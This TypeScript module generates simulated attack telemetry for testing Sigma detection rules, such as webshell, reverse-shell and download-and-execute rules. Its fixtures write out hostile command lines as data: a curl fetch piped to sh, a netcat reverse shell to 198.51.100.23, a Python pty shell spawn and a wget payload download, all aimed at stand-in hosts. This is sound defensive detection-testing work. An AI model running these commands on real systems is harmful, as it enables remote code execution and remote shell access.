import { intBetween, pick } from '../host/random.js';
import type { SimEvent } from './stream.js';

/**
 * Suspicious activity shaped to match Sigma rules shipped in data/sigma (SigmaHQ, DRL 1.1).
 * Each scenario names the rule it is meant to trigger, so a detection test can assert
 * that exactly those rules fire.
 */
export interface Scenario {
  /** Sigma rule id (data/sigma/*.yml). */
  ruleId: string;
  title: string;
  build(rand: () => number, time: number, basePid: number, webServerPid: number): SimEvent[];
}

const proc = (
  time: number,
  pid: number,
  parent: number,
  path: string,
  cmdline: string,
  uid: number,
  cwd = '/tmp',
): SimEvent => ({ kind: 'process', time, pid, parent, path, cmdline, uid, cwd, suspicious: true });

export const SCENARIOS: readonly Scenario[] = [
  {
    ruleId: '818f7b24-0fba-4c49-a073-8b755573b9c7',
    title: 'Linux Webshell Indicators',
    build: (rand, time, pid, web) => {
      const shell = proc(
        time,
        pid,
        web,
        '/usr/bin/dash',
        'sh -c whoami;id;uname -a',
        33,
        '/var/www/html',
      );
      const tool = pick(rand, ['/usr/bin/whoami', '/usr/bin/uname', '/usr/bin/hostname']);
      // The worker's own exec gives consumers the parent image (Sigma's ParentImage).
      const worker = proc(time, web, 1, '/usr/sbin/nginx', 'nginx: worker process', 33, '/');
      return [
        worker,
        shell,
        proc(time, pid + 1, pid, tool, tool.split('/').pop() ?? tool, 33, '/var/www/html'),
      ];
    },
  },
  {
    ruleId: 'a2d9e2f3-0f43-4c7a-bcd9-9acfc0d723aa',
    title: 'Suspicious Download and Execute Pattern via Curl/Wget',
    build: (_rand, time, pid, web) => [
      proc(
        time,
        pid,
        web,
        '/usr/bin/dash',
        'sh -c /usr/bin/curl -s http://203.0.113.7/x.sh -o /tmp/.x.sh && sh /tmp/.x.sh',
        33,
      ),
    ],
  },
  {
    ruleId: '312b42b1-bded-4441-8b58-163a3af58775',
    title: 'Potentially Suspicious Execution From Tmp Folder',
    build: (rand, time, pid, web) => {
      const name = pick(rand, ['kdevtmpfsi', '.systemd-helper', 'xmrig', 'dbused']);
      return [proc(time, pid, web, `/tmp/${name}`, `/tmp/${name} --background`, 33)];
    },
  },
  {
    ruleId: '7f734ed0-4f47-46c0-837f-6ee62505abd9',
    title: 'Potential Netcat Reverse Shell Execution',
    build: (rand, time, pid, web) => [
      proc(
        time,
        pid,
        web,
        '/usr/bin/nc',
        `nc 198.51.100.23 ${pick(rand, [4444, 9001, 1337])} -e /bin/bash`,
        33,
      ),
    ],
  },
  {
    ruleId: 'c4042d54-110d-45dd-a0e1-05c47822c937',
    title: 'Python Spawning Pretty TTY Via PTY Module',
    build: (_rand, time, pid, web) => [
      proc(time, pid, web, '/usr/bin/python3', `python3 -c import pty;pty.spawn("/bin/bash")`, 33),
    ],
  },
  {
    ruleId: 'dbfc7c98-04ab-4ab7-aa94-c74d22aa7376',
    title: 'Potentially Suspicious Malware Callback Communication - Linux',
    build: (rand, time, pid) => [
      {
        kind: 'socket',
        time,
        pid,
        path: '/tmp/.x',
        action: 'connect',
        remoteAddress: `198.51.100.${intBetween(rand, 2, 250)}`,
        remotePort: pick(rand, [4444, 2222, 6789, 51820]),
        localPort: intBetween(rand, 32768, 60999),
        suspicious: true,
      },
    ],
  },
  {
    ruleId: '35a05c60-9012-49b6-a11f-6bab741c9f74',
    title: 'Wget Creating Files in Tmp Directory',
    build: (_rand, time, pid, web) => [
      proc(
        time,
        pid,
        web,
        '/usr/bin/wget',
        'wget -q http://203.0.113.7/payload -O /tmp/payload',
        33,
      ),
      {
        kind: 'file',
        time,
        pid,
        path: '/usr/bin/wget',
        targetPath: '/tmp/payload',
        action: 'CREATED',
        suspicious: true,
      },
    ],
  },
];
